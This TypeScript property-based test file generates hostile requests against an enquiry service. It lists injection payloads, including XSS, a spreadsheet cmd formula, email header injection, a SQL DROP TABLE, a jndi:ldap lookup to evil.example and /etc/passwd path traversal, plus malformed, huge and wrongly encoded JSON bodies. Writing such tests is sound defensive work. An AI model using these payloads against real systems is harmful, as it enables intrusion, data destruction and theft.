/** Requests of attackers: malformed in every way, or valid enquiries whose texts attack their readers. */
import fc from 'fast-check';
import type { Enquiry } from '../../../openapi/service/contract.ts';
import { invalid } from './arbitraries.ts';
import { enquiry } from './sample.ts';

export interface Attack {
  kind: string;
  headers: Record<string, string>;
  body: Uint8Array;
  /** Bytes sent before the connection is cut, of those that the headers announce. */
  cutAt?: number;
}

/** Texts that do harm when interpreted: markup, headers, formulas, commands, paths, queries. */
export const attackTexts: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'/><svg/onload=alert(1)>",
  '</td></table><iframe src=javascript:alert(1)>',
  '</title><style>*{display:none}</style><!--',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;b&#x3E;',
  '=HYPERLINK("https://evil.example","x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  ' =1+1',
  '＝1+1',
  '";=1+1,"',
  'a\r\nBcc: victim@example.com',
  'a\nContent-Type: text/html\n\n<b>x',
  'a\r\n.\r\nMAIL FROM:<x@y.example>\r\n',
  '=?utf-8?B?PGI+?= =?utf-8?Q?=0D=0ABcc:_victim@example.com?=',
  '"Asha" <victim@example.com>, other@example.com',
  '\u2028Bcc: victim@example.com\u2029',
  '\u0085Bcc: victim@example.com',
  '\u001B]0;owned\u0007\u001B[2J\u009B31m',
  '\u202Egpj.exe\u2066',
  '\u0000\u0001\u0008\u007F',
  '\uD800 lone \uDFFF',
  '\uFEFFbom',
  'Z̸̡̛͖a̵l̶g̷o̸'.repeat(4),
  '🪁'.repeat(50),
  "Robert'); DROP TABLE enquiries;--",
  '$' + '{jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %> #{7*7}',
  '../../../../etc/passwd\u0000.eml',
  '__proto__',
  '%s%s%n %00 %0d%0aSet-Cookie:x=1',
];

const attackText = fc.oneof(
  fc.constantFrom(...attackTexts),
  fc.tuple(fc.constantFrom(...attackTexts), fc.constantFrom(...attackTexts)).map((two) => two.join('')),
  fc.string({ unit: 'binary', maxLength: 300 }),
);

const json = { 'Content-Type': 'application/json' };
const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);
const asJson = (kind: string) => (value: unknown) => ({
  kind,
  headers: json,
  body: bytes(JSON.stringify(value)),
});

/** An enquiry with an attack in some of its fields; many are valid, and are stored and mailed. */
const attackedEnquiry: fc.Arbitrary<Enquiry> = fc
  .record({
    name: fc.oneof(attackText, fc.constant(enquiry.name)),
    companyName: fc.oneof(attackText, fc.constant(enquiry.companyName)),
    message: attackText,
    email: fc.oneof(
      { weight: 9, arbitrary: fc.constant(enquiry.email) },
      { weight: 1, arbitrary: attackText },
    ),
    contact: fc.oneof(
      { weight: 9, arbitrary: fc.constant(enquiry.contact) },
      { weight: 1, arbitrary: attackText },
    ),
  })
  .map((fields) => ({ ...enquiry, ...fields }));

const deep = (depth: number, [open, close]: readonly [string, string], core: string): string =>
  `${open.repeat(depth)}${core}${close.repeat(depth)}`;

const text = JSON.stringify(enquiry);

const raw = (kind: string, bodies: fc.Arbitrary<string | Uint8Array>) =>
  bodies.map((body) => ({ kind, headers: json, body: typeof body === 'string' ? bytes(body) : body }));

const kinds: readonly fc.Arbitrary<Attack>[] = [
  attackedEnquiry.map(asJson('attack in a field')),
  invalid({ $ref: '#/components/schemas/EnquiryRequest' }).map(asJson('wrong type or field')),
  raw(
    'deep',
    fc
      .tuple(
        fc.integer({ min: 100, max: 40_000 }),
        fc.constantFrom(['[', ']'] as const, ['{"a":', '}'] as const, ['{"message":[', ']}'] as const),
      )
      .map(([depth, brackets]) => deep(depth, brackets, '1')),
  ),
  raw(
    'huge',
    fc
      .tuple(fc.integer({ min: 20_001, max: 600_000 }), fc.constantFrom('x', '"', '\\', '{', ' '))
      .map(([size, unit]) => JSON.stringify({ ...enquiry, message: unit.repeat(size) })),
  ),
  raw(
    'many fields',
    fc
      .integer({ min: 100, max: 10_000 })
      .map((count) =>
        JSON.stringify(Object.fromEntries(Array.from({ length: count }, (_, key) => [`k${key}`, key]))),
      ),
  ),
  raw('no JSON', fc.uint8Array({ maxLength: 2_000 })),
  raw(
    'almost JSON',
    fc
      .tuple(fc.nat(text.length), fc.constantFrom('', ',', '}', '"', '\\', '\u0000', 'NaN'))
      .map(([at, insert]) => `${text.slice(0, at)}${insert}`),
  ),
  raw(
    'odd JSON',
    fc.constantFrom(
      `\uFEFF${text}`,
      `${text}${text}`,
      `{"__proto__":{"admin":true},${text.slice(1)}`,
      `{"constructor":{"prototype":{"admin":true}},${text.slice(1)}`,
      text.replace('"5550123456"', '1e999'),
      text.replace('"5550123456"', '-0'),
      text.replace('"name"', '"name":"A","name"'),
      text.replace('Asha', '\\ud800'),
      text.replace('Asha', '\\u0000'),
    ),
  ),
  raw(
    'other encoding',
    fc.constantFrom(
      Buffer.from(text, 'utf16le'),
      Buffer.from(`\uFEFF${text}`, 'utf16le'),
      Buffer.from(text.replace('Asha', 'Ashá'), 'latin1'),
      Buffer.from([0xc3, 0x28]),
    ),
  ),
  fc
    .constantFrom(
      'text/plain',
      'text/html',
      'multipart/form-data',
      'application/xml',
      'application/json-patch+json',
      '',
    )
    .map((type) => ({ kind: 'wrong content type', headers: { 'Content-Type': type }, body: bytes(text) })),
  fc.constantFrom('gzip', 'br', 'chunked, gzip', 'x').map((encoding) => ({
    kind: 'encoded',
    headers: { ...json, 'Content-Encoding': encoding },
    body: bytes(text),
  })),
  fc
    .constantFrom('a b', 'x'.repeat(129), 'a/b', '<script>', "' OR 1=1", '\u00E9')
    .map((key) => ({ kind: 'wrong key', headers: { ...json, 'Idempotency-Key': key }, body: bytes(text) })),
  fc
    .integer({ min: 0, max: text.length - 1 })
    .map((cutAt) => ({ kind: 'cut off', headers: json, body: bytes(text), cutAt })),
];

/** One attack of any kind, all equally likely. */
export const attack: fc.Arbitrary<Attack> = fc.oneof(...kinds);
